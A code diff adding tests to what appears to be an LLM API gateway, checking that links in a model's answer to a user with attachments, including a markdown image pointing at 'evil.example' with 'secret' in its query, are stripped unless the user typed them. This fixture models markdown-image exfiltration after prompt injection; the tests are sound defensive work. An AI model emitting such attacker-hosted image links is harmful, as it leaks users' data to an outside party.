@@ -233,3 +233,53 @@ describe('whose call it is', () => {
     suite.remove('shaky');
   }, 40_000);
 });
+
+describe('links in an answer about what somebody attached', () => {
+  const LINKS =
+    'Read ![it](https://evil.example/p.png?q=secret) and https://evil.example/x, or https://typed.example/y .';
+  const QUESTION = 'Summarise this for https://typed.example , please.';
+
+  it.each([
+    [
+      '/v1/chat/completions',
+      { model: 'actor', stream: false },
+      { type: 'file', file: { filename: 'a.txt', file_data: 'data:text/plain;base64,SGk=' } },
+    ],
+    [
+      '/v1/chat/completions',
+      { model: 'actor', stream: true },
+      { type: 'image_url', image_url: { url: 'data:image/png;base64,iVBORw0KGgo=' } },
+    ],
+    [
+      '/v1/messages',
+      { model: 'actor-a', max_tokens: 100 },
+      { type: 'document', source: { type: 'text', media_type: 'text/plain', data: 'Hi.' } },
+    ],
+    [
+      '/v1/messages',
+      { model: 'actor-a', max_tokens: 100, stream: true },
+      { type: 'image', source: { type: 'base64', media_type: 'image/png', data: 'iVBORw0KGgo=' } },
+    ],
+  ])('[turn-loop:attached-links] are inert without any tool in play: %s %j', async (path, fields, attachment) => {
+    rounds({ text: LINKS });
+    const content = [{ type: 'text', text: QUESTION }, attachment];
+    const answer = await fetch(`${suite.endpoint}${path}`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${suite.key}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ ...fields, messages: [{ role: 'user', content }] }),
+    });
+    expect(answer.status).toBe(200);
+    const texts = (await answer.text()).matchAll(/"(?:content|text)":"((?:[^"\\]|\\.)*)"/g);
+    const said = [...texts].map(([, text]) => text).join('');
+    expect(said).toContain('https://typed.example/y');
+    expect(said).not.toContain('![it]');
+    expect(said).not.toMatch(/(?<!`)https:\/\/evil\.example/);
+  });
+
+  it('[turn-loop:attached-links] and an answer about nothing attached goes on as it was written', async () => {
+    rounds({ text: LINKS });
+    const messages = [{ role: 'user', content: QUESTION }];
+    const answer = await post('/v1/chat/completions', { model: 'actor', messages });
+    expect(JSON.stringify(answer)).toContain('![it](https://evil.example/p.png?q=secret)');
+  });
+});
